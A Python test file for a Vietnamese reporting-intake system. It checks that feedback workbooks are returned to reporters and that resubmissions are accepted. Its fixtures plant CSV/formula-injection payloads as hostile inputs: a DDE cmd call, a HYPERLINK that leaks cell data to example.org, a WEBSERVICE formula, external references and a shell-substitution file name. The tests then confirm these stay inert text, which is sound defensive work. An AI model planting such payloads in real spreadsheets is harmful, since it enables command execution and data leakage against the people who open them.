"""The feedback workbook: a reporter gets its own file back, mends what it says, sends it again, and it is accepted."""

import re
import zipfile
from collections.abc import Callable
from datetime import date
from pathlib import Path
from types import ModuleType
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from mangnon.contract.code_lists import CodeLists
from mangnon.contract.template import write_template
from mangnon.intake import steps
from mangnon.publishing import decisions, phases
from mangnon.telling import messages
from mangnon.telling.feedback import harmless

LISTS = CodeLists.from_package()
JULY = date(2020, 7, 1)
HOSTILE = (
    "=cmd|'/c calc'!A1", '=HYPERLINK("http://example.org/?"&A1,"bấm")', "+1", "-2+3", "@SUM(1)", "\t=1+1", "=1+1",
)  # fmt: skip
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
MEASURES = """
    select sum(event_count), sum(attendances) from marts.fct_events
    where period = '2020-07-01' and reporter_code = '193'
"""

CSV = """\
#reporter,194
#period,2020-07
#form,events
#revision,2
#reason,sửa số liệu
area,event_date,event_type,programme,event_count,attendances,child_attendances,caregiver_attendances,\
official_attendances,collaborator_attendances,delegations,qualifier
194,,communication,,1,100,,,,,,
194,,=1+1,,1,100,,,,,,
194,,communication,,1,100,,,,,,
"""

Night = Callable[[], int | None]


def event(area: str, count: int, **other: object) -> dict[str, object]:
    return {"area": area, "event_type": "communication", "event_count": count, "attendances": count * 100} | other


def submission(path: Path, reporter: str = "193", lines: Any = None, revision: int = 2, **cover: Any) -> Path:
    """A workbook of July 2020: by default three lines of events and one of programme sites."""
    path.parent.mkdir(parents=True, exist_ok=True)
    if lines is None:
        sites = [{"area": reporter, "programme": "mang_non_team", "site_count": 20}]
        lines = {"events": [event(reporter, count) for count in (2, 3, 4)], "programme_sites": sites}
    cover = {"reason": "sửa số liệu"} | cover
    write_template(path, LISTS.reporters[reporter], JULY, LISTS, lines, revision=revision, **cover)
    return path


def typed_wrong(path: Path, **cells: str) -> Path:
    """In the file's first form other texts stand in these cells; all else is as the template's formulas left it."""
    with zipfile.ZipFile(path) as book:
        parts = {
            name: book.read(name).decode() if name.endswith(".xml") else book.read(name) for name in book.namelist()
        }
    sheet = parts["xl/worksheets/sheet3.xml"]  # after the cover and the instructions
    for cell, text in cells.items():
        said = f'<c r="{cell}" t="inlineStr"><is><t>{text}</t></is></c>'
        sheet, count = re.subn(rf'<c r="{cell}"[^>]*?(/>|>.*?</c>)', said, sheet)
        assert count == 1, cell
    parts["xl/worksheets/sheet3.xml"] = sheet
    with zipfile.ZipFile(path, "w") as book:
        for name, content in parts.items():
            book.writestr(name, content)
    return path


def told(outbox: Path) -> list[Path]:
    return sorted(outbox.rglob("*.xlsx"))


def lines_of(book: openpyxl.Workbook) -> list[dict[str, Any]]:
    """The list of the summary, by heading; with the target of its link."""
    rows = list(book["Phản hồi"].iter_rows())
    start = next(number for number, row in enumerate(rows) if row[0].value == "Mức độ")
    headings = [cell.value for cell in rows[start]]
    return [
        dict(zip(headings, [cell.value for cell in row], strict=True)) | {"link": row[2].hyperlink}
        for row in rows[start + 1 :]
    ]


def words_of(book: openpyxl.Workbook) -> str:
    return "\n".join(str(cell.value) for row in book["Phản hồi"].iter_rows() for cell in row if cell.value)


def linked(book: openpyxl.Workbook, line: dict[str, Any]) -> Any:
    """The cell that a line's link leads to."""
    title, _, coordinate = line["link"].location.rpartition("!")
    return book[title.strip("'")][coordinate]


def query(warehouse: ModuleType, statement: str) -> list[tuple[Any, ...]]:
    with warehouse.connect() as connection:
        return list(connection.execute(statement).fetchall())


def test_the_whole_circle_from_refusal_to_publication(published: ModuleType, tmp_path: Path, run_night: Night) -> None:
    inbox, outbox = tmp_path / "inbox", tmp_path / "outbox"
    typed_wrong(submission(inbox / "193" / "Báo cáo tháng 7.xlsx"), F4="hai trăm", E6="2,5")
    before = query(published, MEASURES)
    assert run_night() == 2, "the programme sites are published"
    assert query(published, MEASURES) == before

    assert len(messages.write_feedback()) == 1
    (workbook,) = told(outbox)
    assert workbook.parent == outbox / "193" / "2020-07"
    assert workbook.name.startswith("Báo cáo tháng 7.phan-hoi.lan-2.")
    book = openpyxl.load_workbook(workbook)
    assert book.sheetnames[:3] == ["Phản hồi", "Bìa", "Hướng dẫn"]
    assert "tăng “Lần gửi” lên 3" in words_of(book)
    wrong = [line for line in lines_of(book) if line["Mức độ"] == "Phải sửa" and line["Cột"]]
    assert [(line["Trang"], line["Ô"], line["Giá trị đã đọc"]) for line in wrong] == [
        ("Hoạt động", "F4", "hai trăm"),
        ("Hoạt động", "E6", "2,5"),
    ]
    assert all("Cách ghi: " in line["Nội dung và cách sửa"] for line in wrong)
    for line, number in zip(wrong, (200, 4), strict=True):
        cell = linked(book, line)
        assert cell.comment.text.startswith("PHẢI SỬA: ")
        assert cell.fill.fgColor.rgb == "FFFFC9C4"
        cell.value = number
    for row in book["Bìa"].iter_rows():
        if row[0].value == "Lần gửi *":
            row[1].value = 3
        if row[0].value == "Lý do gửi lại":
            row[1].value = "sửa theo phản hồi"
    book.save(inbox / "193" / "sửa.xlsx")

    assert run_night() == 3
    assert query(published, MEASURES) == [(9, 900)]
    states = query(published, "select revision, form, state from ops.loads where revision in (2, 3) order by load_id")
    assert states == [
        (2, "events", "refused"), (2, "programme_sites", "accepted"),
        (3, "events", "accepted"), (3, "programme_sites", "same"),
    ]  # fmt: skip
    assert messages.write_feedback() == []
    assert told(outbox) == [workbook]


@pytest.fixture(scope="module")
def outbox(published_once: Path) -> Path:
    """The answers after one night in which everybody sent something else that is wrong."""
    inbox = published_once / "inbox"
    hostile(submission(inbox / "193" / "=cmd|'calc'!A1 $(x) <b>.xlsm"))
    (inbox / "194").mkdir()
    (inbox / "194" / "a.csv").write_text(CSV, encoding="utf-8")
    submission(
        inbox / "195" / "parts.xlsx", "195", {"events": [event("195", 1), event("195", 1, child_attendances=400)]}
    )
    # Three people at an event are rather a conversation; and nobody says why it is sent again.
    submission(inbox / "196" / "few.xlsx", "196", {"events": [event("196", 1, attendances=3)]}, reason="")
    for count in (5, 6):
        submission(inbox / "198" / f"tie-{count}.xlsx", "198", {"events": [event("198", count)]})
    typed_wrong(submission(inbox / "199" / "replaced.xlsx", "199"), F4="hai trăm")
    submission(inbox / "199" / "replacing.xlsx", "199", revision=3)
    typed_wrong(submission(inbox / "200" / "sums.xlsx", "200", synthetic=True), F4="hai trăm")
    (inbox / "_office").mkdir()
    (inbox / "_office" / "báo cáo.xlsx").write_bytes(b"PK\x03\x04 cut off")
    night_without_airflow()
    messages.write_feedback()
    return published_once / "outbox"


def night_without_airflow() -> None:
    for reporter in steps.collect():
        steps.load(reporter)
    steps.close()
    try:
        phases.publish_all()
    except phases.ReleaseRefused:  # so many wrong files hold a release
        decisions.approve(3, "tester", "các đơn vị đã được báo")


def hostile(path: Path) -> None:
    """Somebody fills a workbook with what acts when a spreadsheet program opens it."""
    book = openpyxl.load_workbook(path)
    sheet = book["Hoạt động"]
    for row, text in enumerate(HOSTILE, start=10):
        sheet.cell(row, 3).value = text
        sheet.cell(row, 5).value = 1  # or the row would be taken for a note below the table
        sheet.cell(row, 3).data_type = "s"
    sheet["Z30"] = '=WEBSERVICE("http://example.org")'  # a formula of the form without a result would refuse it
    sheet["B30"].hyperlink = "http://example.org/"
    sheet["C30"].comment = Comment("=1+1", "ai đó")
    sheet.add_data_validation(DataValidation("list", formula1="=[1]Sheet1!$A$1", sqref="D30"))
    sheet.conditional_formatting.add("A1:B9", FormulaRule(["[1]Sheet1!$A$1"]))
    book.defined_names["x"] = DefinedName("x", attr_text="cmd|'/c calc'!A1")
    book.create_sheet("Khác").cell(1, 1).value = "=SUM(Z1:Z9)"
    book.save(path)


def returned(outbox: Path, reporter: str) -> openpyxl.Workbook:
    """The one workbook that the reporter got back."""
    (path,) = told(outbox / reporter)
    return openpyxl.load_workbook(path)


def test_what_a_file_holds_never_acts(outbox: Path) -> None:
    (path,) = told(outbox / "193")
    with zipfile.ZipFile(path) as parts:
        contents = {name: parts.read(name).decode() for name in parts.namelist()}
    formulas = [
        formula.text or ""
        for name, content in contents.items()
        if "worksheets/sheet" in name and name.endswith(".xml")
        for formula in ElementTree.fromstring(content).iter(f"{{{MAIN}}}f")
    ]
    assert formulas, "the template's own"
    sums = re.compile(r"SUM\('[^'\[\]|]+'!\$[A-Z]\$4:\$[A-Z]\$1048576\)(-SUMIFS\('[^\[\]|]*\))?")
    assert all(sums.fullmatch(text) for text in formulas)
    known = r"xl/(workbook|styles|sharedStrings|theme/theme1|worksheets/sheet\d+|comments/comment\d+|drawings/\w+)"
    other = r".*\.rels|docProps/(app|core)\.xml|\[Content_Types\]\.xml"
    assert not [name for name in contents if not re.fullmatch(rf"{known}\.(xml|vml)|{other}", name)]
    everything = "".join(contents.values())
    assert "External" not in everything
    assert "macroEnabled" not in everything
    assert not re.search(r"definedName[^>]*>[^<]*cmd", everything)
    assert "[1]Sheet1" not in everything
    assert "ai đó" not in everything


def test_text_that_looks_like_a_formula_stays_text(outbox: Path) -> None:
    book = returned(outbox, "193")
    for row, text in enumerate(HOSTILE, start=10):
        cell = book["Hoạt động"].cell(row, 3)
        assert (cell.value, cell.data_type, bool(cell.quotePrefix)) == (text, "s", True)
    assert {cell.data_type for row in book["Phản hồi"].iter_rows() for cell in row} <= {"s", "n"}
    assert {line["Giá trị đã đọc"] for line in lines_of(book)} >= {"=1+1", "@SUM(1)"}


def test_drop_downs_and_frozen_headers_stay(outbox: Path) -> None:
    sheet = returned(outbox, "193")["Hoạt động"]
    assert sheet.freeze_panes == "A4"
    lists = [limit.formula1 for limit in sheet.data_validations.dataValidation if limit.type == "list"]
    assert lists
    assert all(source.startswith("'Danh mục'!$") for source in lists)
    assert returned(outbox, "193")["Danh mục"].sheet_state == "hidden"


def test_the_sums_of_the_cover_go_on_summing(outbox: Path) -> None:
    cover = returned(outbox, "200")["Bìa"]
    sums = [row[3].value for row in cover.iter_rows(min_row=11) if row[0].value == "Hoạt động"]
    assert sums
    assert all(formula.startswith("=SUM('Hoạt động'!$") for formula in sums)


def test_made_up_data_say_so(outbox: Path) -> None:
    assert "số liệu không phải báo cáo thật" in words_of(returned(outbox, "200"))


def test_a_csv_comes_back_as_its_concerned_rows(outbox: Path) -> None:
    book = returned(outbox, "194")
    assert book.sheetnames == ["Phản hồi", "Hoạt động"]
    rows = {row[0].value: [cell.value for cell in row[1:4]] for row in book["Hoạt động"].iter_rows(min_row=2)}
    assert rows[8] == ["194", None, "=1+1"]
    line = next(line for line in lines_of(book) if line["Cột"] == "Loại hoạt động" and line["Ô"] == "C8")
    assert (linked(book, line).value, linked(book, line).data_type) == ("=1+1", "s")
    assert "Sửa trong tệp của đơn vị, không sửa trong tệp này" in words_of(book)


def test_a_cell_that_a_gate_names_is_marked(outbox: Path) -> None:
    book = returned(outbox, "195")
    (line,) = [line for line in lines_of(book) if line["Ô"] == "F5"]
    assert (line["Mức độ"], line["Trang"], line["Giá trị đã đọc"]) == ("Phải sửa", "Hoạt động", "100")
    assert "400" in line["Nội dung và cách sửa"]
    assert linked(book, line).value == 100
    assert line["Nội dung và cách sửa"] in linked(book, line).comment.text


def test_an_accepted_form_with_a_warning_comes_back_too(outbox: Path) -> None:
    book = returned(outbox, "196")
    lines = lines_of(book)
    assert {line["Mức độ"] for line in lines} == {"Nên xem lại", "Thông tin"}
    warned = [line for line in lines if line["link"] and line["Mức độ"] == "Nên xem lại"]
    assert warned
    for line in warned:
        is_of_form = not line["Cột"]
        assert (linked(book, line).comment is None) == is_of_form, "what concerns a whole form blames no single cell"
    assert "dòng, nhưng có điểm nên xem lại" in words_of(book)
    assert "BỊ TỪ CHỐI" not in words_of(book)


def test_both_of_two_files_with_one_revision_are_told(outbox: Path) -> None:
    assert [path.name[:5] for path in told(outbox / "198")] == ["tie-5", "tie-6"]
    for path in told(outbox / "198"):
        book = openpyxl.load_workbook(path)
        assert "Hai tệp khác nhau cùng lần gửi 2" in lines_of(book)[0]["Nội dung và cách sửa"]
        assert "TẠM GIỮ" in words_of(book)
        assert "tăng “Lần gửi” lên 3" in words_of(book)


def test_what_is_replaced_already_is_not_told(outbox: Path) -> None:
    assert not (outbox / "199").exists()


def test_a_file_that_cannot_be_opened_gets_the_summary_alone(outbox: Path) -> None:
    book = returned(outbox, "_khong-ro-don-vi")
    assert book.sheetnames == ["Phản hồi"]
    assert "Không mở được tệp" in lines_of(book)[0]["Nội dung và cách sửa"]


def test_nobody_hears_of_the_sample_or_of_anything_twice(outbox: Path) -> None:
    assert {path.name for path in outbox.iterdir()} == {"193", "194", "195", "196", "198", "200", "_khong-ro-don-vi"}
    assert messages.write_feedback() == []


def test_a_later_tie_is_told_of_too(published: ModuleType, tmp_path: Path, run_night: Night) -> None:
    # The first is accepted with a warning; then it ties with another, which comes in a file that is too large to mark.
    submission(tmp_path / "inbox" / "193" / "a.xlsx", lines={"events": [event("193", 1, attendances=3)]})
    run_night()
    assert len(messages.write_feedback()) == 1
    typed = submission(tmp_path / "inbox" / "193" / "b.xlsx", lines={"events": [event("193", 2, attendances=3)]})
    with zipfile.ZipFile(typed, "a") as parts:
        parts.writestr("docProps/thumbnail.jpeg", bytes(harmless.LARGEST))
    run_night()
    assert len(messages.write_feedback()) == 2
    assert len([path for path in told(tmp_path / "outbox") if path.name.startswith("a.")]) == 2
    (large,) = (path for path in told(tmp_path / "outbox") if path.name.startswith("b."))
    assert openpyxl.load_workbook(large).sheetnames[0] == "Phản hồi"
    assert "Bìa" not in openpyxl.load_workbook(large).sheetnames
